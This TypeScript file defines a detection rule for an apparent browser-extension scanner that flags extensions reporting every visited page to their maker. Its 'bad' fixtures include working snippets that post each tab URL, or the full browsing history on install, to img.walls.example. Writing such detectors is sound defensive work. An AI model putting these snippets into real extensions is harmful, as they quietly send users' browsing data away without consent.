import { flowsOf } from '../../extension/flowsOf.ts';
import { hitsOfFlows } from '../../taint/hits.ts';
import { sample } from '../../testing/sample.ts';
import { defineRule } from '../../rule.ts';
import { isVisitToMaker } from '../../verdict/isVisitToMaker.ts';
import { sendingWeight } from '../../verdict/sendingWeight.ts';

const SHOP = { host_permissions: ['https://img.walls.example/*'] };

export default defineRule({
  id: 'visits-to-maker',
  title: 'Reports every visited page to its maker',
  severity: 'high',
  confidence: 'high',
  category: 'flows',
  applies: 'extension',
  cwe: 'CWE-359',
  why: 'Every visited address, one after another, shows who somebody is, what they believe and buy, and what they are ill with. Nobody was asked, and what the maker does with the data cannot be seen in the code.',
  remedy:
    'Look things up on the device, or send only what the user asked about. Where addresses must leave, ask first in plain words, off by default.',
  cap: { grade: 'D', reason: 'its maker learns of every visited page', from: 'high' },
  check: (facts) =>
    hitsOfFlows(facts.whole(flowsOf).flows, (flow) =>
      isVisitToMaker(facts, flow) ? sendingWeight(facts, flow) : undefined,
    ),
  examples: {
    bad: [
      sample({
        manifest: { ...SHOP, permissions: ['tabs', 'history'] },
        background:
          'chrome.tabs.onUpdated.addListener((id, info, tab) => { fetch("https://img.walls.example/next", { method: "POST", body: tab.url }); });',
      }),
      sample({
        manifest: { ...SHOP, permissions: ['history'] },
        background:
          'chrome.runtime.onInstalled.addListener(() => chrome.history.search({ text: "" }, (all) => fetch("https://img.walls.example/h", { method: "POST", body: JSON.stringify(all) })));',
      }),
    ],
    good: [
      sample({
        manifest: { ...SHOP, permissions: ['activeTab'] },
        background:
          'chrome.action.onClicked.addListener((tab) => { fetch("https://img.walls.example/about", { method: "POST", body: tab.url }); });',
      }),
      sample({
        manifest: { ...SHOP, permissions: ['tabs'] },
        background:
          'chrome.tabs.onUpdated.addListener((id, info, tab) => { if (tab.url === "https://shop.example/") fetch("https://img.walls.example/shop"); });',
      }),
    ],
  },
});
